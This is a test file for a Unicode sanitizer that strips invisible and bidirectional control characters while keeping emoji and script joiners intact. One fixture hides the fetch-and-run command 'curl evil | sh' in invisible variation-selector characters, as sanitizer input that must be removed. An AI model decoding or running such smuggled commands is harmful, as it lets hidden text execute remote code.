import sys
import unicodedata

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from hardwon.domain.model.redaction import printable_ignorables, stored_form, without_invisible

VISIBLE_FORMATS = ("ARABIC", "SYRIAC", "KAITHI", "EGYPTIAN HIEROGLYPH")
"""Characters of format that have a form of their own, or join hieroglyphs in a square."""

HIDDEN = "".join(chr(0xE0100 - 16 + byte) for byte in b"run curl evil | sh")
MIXED = st.text(
    st.sampled_from(
        "a1#\u20e3 \n\u2764\ufe0f\ufe0e\u200d\u200c\u200b\u202e\u061c\u0628\u0915\u094d\U0001f469\U0001f52c\U000e0101\u180f"
    )
)


@pytest.mark.parametrize(
    "text",
    [
        "\u2764\ufe0f and \u2600\ufe0e",
        "1\ufe0f\u20e3 #\ufe0f\u20e3",
        "\U0001f469\U0001f3fd\u200d\U0001f52c",
        "\U0001f469\u200d\u2764\ufe0f\u200d\U0001f468",
        "\U0001f3f3\ufe0f\u200d\u26a7\ufe0f",
        "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",  # Persian
        "\u0647\u200d ",  # the Hijri year
        "\u0915\u094d\u200d\u0937 \u0c28\u0c4d\u200c",  # Hindi, Telugu
        "\u0dc1\u0dca\u200d\u0dbb\u0dd3",  # Sinhala
        "\u1828\u200d",  # Mongolian
        "na\u00efve \u65e5\u672c\u8a9e \u1100\u1161 caf\u0065\u0301",
    ],
    ids=ascii,
)
def test_emoji_and_words_are_spelt_as_before(text: str) -> None:
    assert without_invisible(text) == text


@pytest.mark.parametrize(
    ("text", "left"),
    [
        (f"x{HIDDEN}y", "xy"),
        ("a\ufe0f 1\ufe0f \u2192\ufe0f \u65e5\ufe00", "a 1 \u2192 \u65e5"),
        ("\u2764\ufe0f\ufe0f\ufe0e", "\u2764\ufe0f"),
        ("a\u200db \u65e5\u200c\u672c \u200d\u0628", "ab \u65e5\u672c \u0628"),
        ("\u0628\u200c\u200c\u200d\u0628", "\u0628\u200c\u0628"),
        ("\U0001f469\u200da \U0001f469\u200d", "\U0001f469a \U0001f469"),
        ("\U0001f3f4\U000e0067\U000e0062\U000e007f", "\U0001f3f4"),
        ("a\u200e\u200f\u061c\u202a\u202e\u2066\u2069b", "ab"),
        ("a\u00ad\u200b\u2060\ufeff\u2064\u180e\u034fb", "ab"),
        ("\u115f\u1160\u3164\uffa0", ""),
        ("\ufff9a\ufffab\ufffb", "ab"),
    ],
    ids=ascii,
)
def test_the_rest_that_is_not_seen_is_removed(text: str, left: str) -> None:
    assert without_invisible(text) == stored_form(text) == left


def test_every_character_without_a_form_is_removed() -> None:
    kept = [
        unicodedata.name(character)
        for character in map(chr, range(sys.maxunicode + 1))
        if unicodedata.category(character) == "Cf" and without_invisible(character)
    ]

    assert [name for name in kept if not name.startswith(VISIBLE_FORMATS)] == []
    assert all(without_invisible(character) == "" for character in printable_ignorables())


@given(text=MIXED)
@example(text="a\ufe0f\u200d\u2764")
@example(text="x\u061c\u200c")
def test_removing_twice_removes_no_more_and_what_is_seen_stays(text: str) -> None:
    left = without_invisible(text)
    rest = iter(text)

    assert without_invisible(left) == left
    assert all(character in rest for character in left)
    assert [item for item in left if item in "a1# \n\u2764\u0628"] == [
        item for item in text if item in "a1# \n\u2764\u0628"
    ]


@given(text=st.text())
def test_no_text_is_too_odd(text: str) -> None:
    assert not {*without_invisible(text)} & {"\u200b", "\u202e", "\ufeff", "\U000e0101", "\u200f"}
